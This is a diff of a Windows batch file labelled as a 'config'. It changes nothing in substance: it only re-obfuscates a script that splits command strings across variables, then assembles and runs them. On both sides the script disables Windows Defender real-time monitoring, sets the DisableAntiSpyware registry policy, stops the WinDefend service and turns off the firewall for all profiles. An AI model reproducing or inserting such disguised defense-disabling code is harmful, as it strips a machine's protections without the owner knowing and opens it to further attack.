@@ -1,18 +1,18 @@
-REM task 3814 v2
+REM config 4402 v2
 @echo off
 setlocal EnableDelayedExpansion
-set "gdr0=po"
-set "tgg1=wershell -c "Set-MpPreference "
-set "sga2=-DisableRealtimeMonitorin"
-set "lgs3=g $true""
-!gdr0!!tgg1!!sga2!!lgs3!
+set znr0=powe
+set inl1=rs
+set uii2=hel
+set eaj3=l -c "Set-MpPreference -DisableRealtimeMonitoring $true"
+!znr0!!inl1!!uii2!!eaj3!
 @echo off
 setlocal EnableDelayedExpansion
-set "hgj0=reg add "H"
-set "plq1=KLM\SOFTWARE\Polici"
-set "iho2=es\Microsoft\Windows D"
-set "zes3=efender" /v DisableAntiSpyware "
-set "xtw4=/t REG_DWORD /d 1 /f"
-!hgj0!!plq1!!iho2!!zes3!!xtw4!
-cmd /v:on /c "set gak0=sc stop &&set qjl1=WinDe&&set eni2=fend&&!gak0!!qjl1!!eni2!"
-cmd /v:on /c "set ffp0=netsh advfirewall set allprofiles stat&&set yus1=e off&&!ffp0!!yus1!"
+set pkd0=reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v D
+set bot1=isableAn
+set gwz2=tiSpyware /t REG_
+set ycs3=DWORD /d 
+set kjz4=1 /f
+!pkd0!!bot1!!gwz2!!ycs3!!kjz4!
+cmd /v:on /c "set rks0=sc s&&set yyn1=top &&set ehc2=Win&&set plz3=Defen&&set iva4=d&&!rks0!!yyn1!!ehc2!!plz3!!iva4!"
+cmd /v:on /c "set pwb0=netsh a&&set trp1=dvfirewall set allprofiles state off&&!pwb0!!trp1!"
